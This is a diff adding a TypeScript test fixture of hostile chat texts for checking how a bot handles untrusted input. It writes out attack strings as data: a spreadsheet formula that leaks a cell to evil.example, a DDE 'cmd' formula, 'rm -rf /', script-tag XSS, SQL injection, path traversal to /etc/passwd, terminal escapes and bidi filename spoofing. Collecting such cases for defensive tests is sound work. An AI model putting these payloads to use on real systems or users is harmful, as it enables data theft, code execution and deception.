@@ -1,0 +1,32 @@
+/** Texts that strangers could post to make a bot do, show or break something. */
+
+export const HOSTILE_TEXTS: readonly { readonly what: string; readonly text: string }[] = [
+  { what: "a mention of everyone", text: "@everyone @here vote now" },
+  { what: "Slack's mention of a channel", text: "<!channel> <!here> <!subteam^S1|all> vote" },
+  { what: "Slack's mention of a person", text: "<@U0123ABCD> look at this" },
+  { what: "Discord's mentions", text: "<@123456789012345678> <@&987654321098765432> <#112233445566778899>" },
+  { what: "a disguised link", text: "<http://evil.example|click> here" },
+  { what: "a Markdown link", text: "[your account](http://evil.example) is locked](http://evil.example)" },
+  { what: "code fences", text: "```\nrm -rf /\n``` and `one` and ``two``" },
+  { what: "a formula", text: '=HYPERLINK("http://evil.example?leak="&A1,"click")' },
+  { what: "formulas with other beginnings", text: "+1+cmd|' /C calc'!A0\n-2+3\n@SUM(A1)\n\t=1+1" },
+  { what: "a script", text: "<script>alert(1)</script><img src=x onerror=alert(1)>" },
+  { what: "ANSI escapes", text: "\u001b[2J\u001b[1;31mALERT\u001b[0m \u001b]0;title\u0007 \u009b31m" },
+  {
+    what: "a terminal's hyperlink",
+    text: "\u001b]8;;http://evil.example\u001b\\safe.example\u001b]8;;\u001b\\",
+  },
+  { what: "carriage returns that overwrite", text: "all is well\rEVERYTHING\b\b\b\r\nfine" },
+  { what: "a path", text: "../../../../etc/passwd and C:\\Windows\\win.ini" },
+  { what: "SQL", text: "'; drop table posts; --" },
+  { what: "NUL and other controls", text: "before\0after\u0001\u0002\u007f" },
+  { what: "text turned around", text: "safe \u202Egpj.exe\u202C \u2066inner\u2069 end" },
+  { what: "marks piled up", text: `z${"\u0300\u0301\u0302\u0303".repeat(40)}algo a${"\u0336".repeat(3000)}` },
+  { what: "lone surrogates", text: "left \uD83D right \uDE00 end" },
+  { what: "nothing to see", text: "\u200B\u200C\u200D\u2060\uFEFF\u00AD" },
+  { what: "invisible tags", text: "vote\u{E0001}\u{E0041}\u{E0042}\u{E007F} now" },
+  { what: "a very long text", text: "the harbour is ours ".repeat(1250) },
+  { what: "one very long word", text: "a".repeat(25_000) },
+  { what: "25,000 marks on one letter", text: `e${"\u0301".repeat(25_000)}` },
+  { what: "names of the language's own", text: "__proto__ constructor toString hasOwnProperty" },
+];
